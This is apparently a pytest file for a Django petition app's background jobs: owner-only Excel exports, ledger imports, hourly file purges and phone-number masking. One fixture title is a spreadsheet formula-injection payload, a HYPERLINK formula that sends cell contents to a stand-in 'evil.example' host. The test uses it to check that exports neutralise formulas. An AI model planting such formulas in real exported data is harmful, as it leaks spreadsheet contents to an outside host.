"""Background jobs (issue 16/17): big exports and ledger imports run in the worker, watched on a progress
page only their owner can open; the files are purged hourly. The worker itself: test_worker.py."""

import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from jobs.choices import JobState
from jobs.models import Job
from jobs.services import job_directory, job_run, jobs_purge
from petitions.choices import State
from petitions.models import Item
from tests.ledger.test_import import good_rows, workbook
from tests.petitions.helpers import make

pytestmark = pytest.mark.django_db


def test_a_large_item_export_becomes_a_job_for_its_owner_only(cast, login, settings, django_capture_on_commit_callbacks):
    settings.JOB_EXPORT_ROWS = 2
    make(cast, State.HANDLING)
    make(cast, State.SUBMITTED, title='=HYPERLINK("http://evil.example/?"&A1,"点击查看")')
    make(cast, State.SUBMITTED, title="第三条\x0b换行")
    client = login(cast.staff)
    with django_capture_on_commit_callbacks() as queued:
        response = client.get(reverse("petitions:list"), {"export": "xlsx", "q": ""})
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == reverse("jobs:detail", args=[job.token])
    assert len(queued) == 1  # sent to the worker after commit
    assert job.owner == cast.staff and job.kind == "items_export" and job.state == JobState.PENDING
    assert len(job.token) >= 32  # opaque, not the id
    page = client.get(response.url).content.decode()
    assert "data-job-status-url" in page and "<progress" in page and "jobs/progress" in page

    assert job_run(job_id=job.pk) == JobState.DONE  # what the Celery task runs
    assert job_run(job_id=job.pk) == "not claimed"  # a redelivered message does nothing
    job.refresh_from_db()
    assert job.state == JobState.DONE and job.done == 3 and "共导出 3 条" in job.message
    status = client.get(reverse("jobs:status", args=[job.token])).json()
    assert status["finished"] and status["percent"] == 100
    assert 'data-testid="job-download"' in client.get(response.url).content.decode()
    download = client.get(reverse("jobs:download", args=[job.token]))
    assert download.status_code == 200 and "filename*=UTF-8''" in download["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    rows = list(sheet.values)
    assert len(rows) == 4 and rows[0][0] == "编号"
    risky = next(c for c in sheet["B"] if str(c.value).startswith("="))
    assert risky.data_type == "s" and risky.quotePrefix  # shown, never run, in Excel or WPS
    assert any(c.value == "第三条\n换行" for c in sheet["B"])
    from audit.models import SecurityEvent

    assert SecurityEvent.objects.filter(kind="export", user=cast.staff).exists()
    from notifications.models import Notification

    note = Notification.objects.get(recipient=cast.staff, kind="job_finished")
    assert note.url == reverse("jobs:detail", args=[job.token])

    # Nobody else: another user, a guessed token, anonymous.
    other = login(cast.leader)
    for name in ("jobs:detail", "jobs:status", "jobs:download"):
        assert other.get(reverse(name, args=[job.token])).status_code == 404
        assert other.get(reverse(name, args=["x" * 32])).status_code == 404
        anonymous = Client().get(reverse(name, args=[job.token]))
        assert anonymous.status_code == 302 and anonymous.url.startswith(reverse("login"))


def test_a_reload_of_a_large_export_starts_no_second_job(cast, login, settings):
    settings.JOB_EXPORT_ROWS = 1
    make(cast, State.SUBMITTED)
    make(cast, State.HANDLING)
    client = login(cast.staff)
    first = client.get(reverse("petitions:list"), {"export": "xlsx", "q": ""})
    again = client.get(reverse("petitions:list"), {"export": "xlsx", "q": ""})  # reload, double click, prefetch
    job = Job.objects.get()
    assert first.url == again.url == reverse("jobs:detail", args=[job.token])
    other_filter = client.get(reverse("petitions:list"), {"export": "xlsx", "q": "社区"})
    assert Job.objects.count() == 2 and other_filter.url != first.url
    job_run(job_id=job.pk)
    client.get(reverse("petitions:list"), {"export": "xlsx", "q": ""})  # once finished, a new export is new
    assert Job.objects.filter(params=job.params).count() == 2


def test_a_small_export_still_answers_at_once(cast, login, settings):
    settings.JOB_EXPORT_ROWS = 20_000
    make(cast, State.SUBMITTED)
    response = login(cast.staff).get(reverse("petitions:list"), {"export": "xlsx"})
    assert response.status_code == 200 and response.streaming and not Job.objects.exists()


def test_an_export_job_is_scoped_as_the_list_when_it_runs(cast):
    make(cast, State.SUBMITTED)  # 东山街道: 任圩街道 staff see none of it
    job = Job.objects.create(owner=cast.renwei_staff, kind="items_export", params={
        "box": "all", "query": "", "today": timezone.localdate().isoformat(), "filename": "x.xlsx"})
    job_run(job_id=job.pk)
    job.refresh_from_db()
    rows = list(load_workbook(job_directory() / job.result_file).active.values)
    assert rows == [rows[0]]  # the header only


def test_a_large_ledger_import_runs_as_a_job(cast, login, settings):
    settings.JOB_IMPORT_ROWS = 3
    client = login(cast.staff)
    f = workbook(good_rows())
    f.name = "ledger.xlsx"
    token = client.post(reverse("ledger:dry_run"), {"file": f, "create_units": "on"}).context["token"]
    response = client.post(reverse("ledger:confirm"), {"token": token})
    job = Job.objects.get(kind="ledger_import")
    assert response.url == reverse("jobs:detail", args=[job.token]) and job.total == 4
    assert not Item.objects.exists()  # nothing written in the request
    assert job_run(job_id=job.pk) == JobState.DONE
    assert Item.objects.filter(imported=True).count() == 4
    job.refresh_from_db()
    assert "已导入 4 条" in job.message
    # Its staged file is used up: running it again (or a stale copy) cannot import twice.
    Job.objects.filter(pk=job.pk).update(state=JobState.PENDING)
    assert job_run(job_id=job.pk) == JobState.FAILED
    job.refresh_from_db()
    assert job.error == "导入已过期,请重新上传文件。" and Item.objects.count() == 4
    assert "导入已过期" in client.get(reverse("jobs:detail", args=[job.token])).content.decode()


def test_a_large_ledger_dry_run_runs_in_the_worker_and_its_owner_confirms_it(cast, login, settings):
    settings.JOB_DRY_RUN_BYTES = 100
    client = login(cast.staff)
    f = workbook(good_rows())
    f.name = "ledger.xlsx"
    response = client.post(reverse("ledger:dry_run"), {"file": f, "create_units": "on"})
    job = Job.objects.get(kind="ledger_dry_run")
    assert response.status_code == 302 and response.url == reverse("jobs:detail", args=[job.token])
    assert not Item.objects.exists()
    assert job_run(job_id=job.pk) == JobState.DONE
    job.refresh_from_db()
    assert "将新增 4 条" in job.message
    page = client.get(response.url).content.decode()
    assert 'data-testid="job-report"' in page and 'data-testid="job-download"' not in page
    assert client.get(reverse("jobs:download", args=[job.token])).status_code == 404
    report_url = reverse("ledger:job_report", args=[job.token])
    assert login(cast.admin).get(report_url).status_code == 404  # another user, even an admin
    client = login(cast.staff)
    report = client.get(report_url)
    html = report.content.decode()
    assert "将新增 4 条" in html and "已撤并的老单位" in html and 'data-testid="ledger-confirm"' in html
    assert not Item.objects.exists()
    client.post(reverse("ledger:confirm"), {"token": report.context["token"]})
    assert Item.objects.filter(imported=True).count() == 4


def test_the_hourly_purge_removes_old_files_once(cast, settings):
    settings.JOB_KEEP_HOURS = 24
    old = Job.objects.create(owner=cast.staff, kind="items_export", state=JobState.DONE, result_file="a.xlsx",
                             finished_at=timezone.now() - dt.timedelta(hours=25))
    fresh = Job.objects.create(owner=cast.staff, kind="items_export", state=JobState.DONE, result_file="b.xlsx",
                               finished_at=timezone.now() - dt.timedelta(hours=1))
    (job_directory() / "a.xlsx").write_bytes(b"x")
    (job_directory() / "b.xlsx").write_bytes(b"x")
    assert jobs_purge() == 1
    assert jobs_purge() == 0  # idempotent
    old.refresh_from_db()
    fresh.refresh_from_db()
    assert old.state == JobState.EXPIRED and not (job_directory() / "a.xlsx").exists()
    assert fresh.state == JobState.DONE and (job_directory() / "b.xlsx").exists()
    (job_directory() / "b.xlsx").unlink()


def test_the_purge_is_a_scheduled_job_in_the_beat_schedule():
    from django_celery_beat.models import PeriodicTask

    from jobs import tasks  # noqa: F401 (declares the job)
    from notifications import periodic

    entry = PeriodicTask.objects.get(task="jobs.purge_old_jobs")
    assert entry.enabled and entry.crontab.minute == "5" and entry.crontab.hour == "*"
    assert "jobs.purge_old_jobs" in periodic._JOBS


def test_a_roster_export_job_masks_personal_data_unless_asked_and_allowed(cast):
    from tests import factories

    factories.MandateFactory.create(deputy=factories.DeputyFactory(name="钱进", mobile="13811112222"))
    params = {"query": "", "full": False, "filename": "代表名册.xlsx"}
    masked = Job.objects.create(owner=cast.staff, kind="roster_export", params=params)
    full = Job.objects.create(owner=cast.staff, kind="roster_export", params={**params, "full": True})
    refused = Job.objects.create(owner=cast.deputy, kind="roster_export", params=params)
    for job in (masked, full, refused):
        job_run(job_id=job.pk)
        job.refresh_from_db()

    def phones(job):
        rows = list(load_workbook(job_directory() / job.result_file).active.values)
        column = rows[0].index("手机号码")
        return {r[column] for r in rows[1:] if r[0] == "钱进"}

    assert phones(masked) == {"138****2222"} and phones(full) == {"13811112222"}
    assert refused.state == JobState.FAILED and refused.error == "您已无权导出代表名册。"


def test_a_job_whose_worker_died_runs_again_but_a_live_one_is_not_taken_over(cast):
    params = {"box": "all", "query": "", "today": timezone.localdate().isoformat(), "filename": "x.xlsx"}
    now = timezone.now()
    dead = Job.objects.create(owner=cast.staff, kind="items_export", params=params, state=JobState.RUNNING,
                              started_at=now - dt.timedelta(hours=2))
    live = Job.objects.create(owner=cast.staff, kind="items_export", params=params, state=JobState.RUNNING,
                              started_at=now - dt.timedelta(minutes=1))
    assert job_run(job_id=dead.pk) == JobState.DONE
    assert job_run(job_id=live.pk) == "not claimed"
